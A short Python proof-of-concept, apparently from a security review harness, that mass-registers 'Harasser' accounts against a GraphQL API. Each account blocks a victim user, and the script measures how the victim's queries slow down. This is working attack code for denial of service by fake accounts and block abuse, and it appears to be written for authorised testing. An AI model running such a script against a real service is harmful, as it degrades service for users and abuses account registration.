# ruff: noqa
import sys

sys.argv = [sys.argv[0], "/tmp/rev17/run1/stack.json"]
__file__ = "/work/wt-rev17/bench/review17/attack.py"
exec(open(__file__).read().replace("for name in which:\n    globals()[name]()", ""))
victim = register("Victim")
friend = register("Friend")
probe = lambda: api("query($id: ID!) { viewer { id } node(id: $id) { id } }", {"id": friend["id"]}, victim["token"])
cost("victim blocked by 0", probe, 20)
B = "mutation($id: ID!) { memberBlock(input: {memberId: $id}) { userErrors { code } } }"
total = 0
for n in (40, 120):
    with ThreadPoolExecutor(4) as pool:
        blockers = list(pool.map(lambda i: register(f"Harasser{i}"), range(n - total)))
    for b in blockers:
        r = api(B, {"id": victim["id"]}, b["token"], b["phone"])
        assert not r["data"]["memberBlock"]["userErrors"], r
    total = n
    cost(f"victim blocked by {n}", probe, 20)
